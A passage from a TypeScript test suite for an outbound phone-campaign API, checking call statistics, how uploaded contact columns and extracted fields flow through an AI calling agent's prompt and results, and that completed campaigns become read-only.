    expect(answered.map((c) => c.to).sort()).toEqual(PHONES.slice(2));
    expect(stats).toEqual({
      object: "campaign_stats",
      campaign_id: mixed,
      status: "completed",
      counts: { total: 4, pending: 0, dialing: 0, completed: 2, no_answer: 1, busy: 1, failed: 0, retry_scheduled: 0, skipped: 0, canceled: 0 },
      progress: 1,
      calls: 6,
      answered: 2,
      answer_rate: 0.333,
      minutes: Math.round((totalMs / 60_000) * 100) / 100,
      average_duration_seconds: Math.round(totalMs / 2 / 100) / 10,
      currency: "USD",
      cost: 0, // no prices set: everything is free (test/api/metering.test.ts prices a campaign)
    });
    // The callees hung up a second after answering.
    expect(stats.average_duration_seconds).toBeGreaterThanOrEqual(0.5);
    expect(stats.average_duration_seconds).toBeLessThan(5);
  });

  test("an uploaded column reaches the agent's prompt; an extracted field and the summary reach the results", async () => {
    expect(keyedCall).toMatchObject({ status: "transferred", campaign_id: keyed, variables: { first_name: "Ada", phone: "+14155550160" }, extracted: { account: "4217" } });
    expect(keyedCall.transcript[0]).toMatchObject({ role: "agent" });
    expect(keyedCall.transcript[0].text).toStartWith("Hello Ada.");
    const { rows } = await results(keyed);
    expect(rows).toEqual([
      {
        first_name: "Ada",
        phone: "+14155550160",
        status: "completed",
        attempts: "1",
        last_call_id: keyedCall.id,
        duration_seconds: String(Math.round(keyedCall.duration_ms / 1000)),
        end_reason: "transferred",
        called_at: keyedCall.created_at,
        summary: keyedCall.summary,
        cost_micros: "0",
        extracted_account: "4217",
      },
    ]);
    expect(keyedCall.summary).toContain("account: 4217");
    const stats = await ok(api.get(`/v1/campaigns/${keyed}/stats`));
    expect(stats).toMatchObject({ status: "completed", progress: 1, calls: 1, answered: 1, answer_rate: 1, average_duration_seconds: Math.round(keyedCall.duration_ms / 100) / 10 });
  });

  test("a finished campaign is read-only: no start, pause, cancel, edit or upload", async () => {
    for (const verb of ["start", "pause", "cancel"] as const) conflictIn(await action(mixed, verb), "completed");
    conflictIn(await api.patch(`/v1/campaigns/${mixed}`, { name: "again" }), "completed");
    conflictIn(await upload(mixed, "phone\n+14155550199\n"), "completed");
  });
});
